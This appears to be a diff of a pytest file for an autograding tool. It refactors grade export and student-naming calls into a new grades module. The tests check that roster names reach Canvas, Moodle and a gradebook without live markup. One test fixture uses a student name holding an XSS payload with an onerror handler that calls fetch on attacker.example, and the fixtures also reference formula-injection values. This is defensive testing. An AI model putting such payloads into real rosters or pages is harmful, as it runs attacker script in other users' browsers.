@@ -29,12 +29,11 @@ import pytest
 from autograder import lessons
 from autograder.authoring.samples import filled
 from autograder.engine import csv_files, execute, submission
-from autograder.engine import pipeline as pipeline_module
 from autograder.engine.judge import JUDGE_METADATA
 from autograder.engine.pipeline import Pipeline
 from autograder.engine.submission import Problem
 from autograder.engine.submission_files import FILES_METADATA
-from autograder.instructor import insights, late, lms, similarity
+from autograder.instructor import grades, insights, late, lms, similarity
 from tests import similarity_class
 
 LESSON = "01_embedding"
@@ -114,7 +113,7 @@ def _roster(tmp_path: Path, names: dict[str, str]) -> lms.Roster:
 
 def _graded(students: list[str]) -> dict:
     scores = {(student, LESSON): (-0.5 if n == 0 else 3.0, 3.0) for n, student in enumerate(students)}
-    return lms.apply_late(scores, dict.fromkeys(scores), late.Policy())
+    return grades.apply_late(scores, dict.fromkeys(scores), late.Policy())
 
 
 def test_roster_names_reach_canvas_and_moodle_as_text(tmp_path, monkeypatch):
@@ -246,9 +245,9 @@ def graded(tmp_path_factory):
         csv.writer(handle).writerows(
             [["student", "name", "email"], ["ada", FORMULAS[0], "a@x"], ["mallory", FORMULAS[1], "m@x"]]
         )
-    pipeline.export(workspace / "grades.csv")
-    pipeline.export_lms("canvas", roster, workspace / "canvas.csv")
-    pipeline.export_lms("moodle-email", roster, workspace / "moodle.csv")
+    grades.export(pipeline, workspace / "grades.csv")
+    grades.export_lms(pipeline, "canvas", roster, workspace / "canvas.csv")
+    grades.export_lms(pipeline, "moodle-email", roster, workspace / "moodle.csv")
     insights.insights(workspace)
     similarity.similarity(workspace)
     pipeline.save_problems()
@@ -388,11 +387,11 @@ def test_roster_names_reach_the_formgraders_gradebook_without_markup(graded, tmp
             student = gb.find_student("mallory")
             return student.first_name, student.last_name
 
-    monkeypatch.setattr(pipeline_module, "MARKUP", {})  # without the defence
-    graded.name_students(roster)
+    monkeypatch.setattr(lms, "MARKUP", {})  # without the defence
+    lms.name_students(graded, roster)
     assert "<img src=x" in _formgrader_nav(*mallory_in_the_gradebook())
     monkeypatch.undo()
-    graded.name_students(roster)
+    lms.name_students(graded, roster)
     first, last = mallory_in_the_gradebook()
     assert (last, first) == ("Eve", 'img src=x onerror="fetch(`//attacker.example`)"')
     page = _formgrader_nav(first, last)
